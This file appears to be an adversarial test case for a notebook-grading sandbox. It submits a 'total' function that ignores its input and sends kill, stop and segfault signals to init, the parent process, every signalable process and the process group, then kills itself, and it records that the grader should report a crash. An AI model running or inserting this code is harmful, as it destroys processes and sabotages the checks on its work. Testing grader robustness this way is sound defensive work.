# attack: D-2 Kills the notebook's process, all other checks and itself from within a call.
# verdict: fails number (crashed)
# needs: 2
# cell: number
import os
import signal

def total(values):
    for target in (1, os.getppid(), -1, 0):
        for which in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGSEGV):
            try:
                os.kill(target, which)
            except OSError:
                pass
    os.kill(os.getpid(), signal.SIGKILL)
